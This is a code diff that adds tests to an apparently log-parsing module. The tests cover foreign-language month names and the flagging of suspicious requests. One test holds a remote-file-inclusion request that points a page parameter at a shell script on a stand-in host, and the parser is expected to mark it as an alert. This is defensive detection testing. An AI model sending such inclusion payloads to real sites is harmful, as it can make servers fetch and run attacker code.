@@ -101,3 +101,24 @@ describe('access-log', () => {
     expect(read(line).parser).toBe('raw@1')
   })
 })
+
+describe('access-log, unusual lines', () => {
+  it('reads months in other languages', () => {
+    const line = '203.0.113.9 -  -  [02/sept./2026:12:00:00 +0200] "GET /rest/items HTTP/1.1" 401 138'
+    const { fields, time } = parseLine(line, 'auto', { received: Date.UTC(2026, 9, 1), zoneMinutes: 0 })
+    expect(time).toBe(BigInt(Date.UTC(2026, 8, 2, 10)) * 1_000_000n)
+    expect(fields['http.response.status_code']).toBe(401)
+    expect(fields['user.name']).toBeUndefined()
+  })
+
+  it('takes a parameter that is a file of somebody else for an attack, an address alone not', () => {
+    const kind = (path: string) =>
+      parseLine(`203.0.113.9 - - [10/Mar/2026:12:00:00 +0000] "GET ${path} HTTP/1.1" 200 9`, 'auto', {
+        received: Date.UTC(2026, 9, 1),
+        zoneMinutes: 0,
+      }).fields['event.kind']
+    expect(kind('/index.php?page=http://203.0.113.9/shell.txt?')).toBe('alert')
+    expect(kind('/login?next=https://www.example.org/a')).toBeUndefined()
+    expect(kind('/what?')).toBeUndefined()
+  })
+})
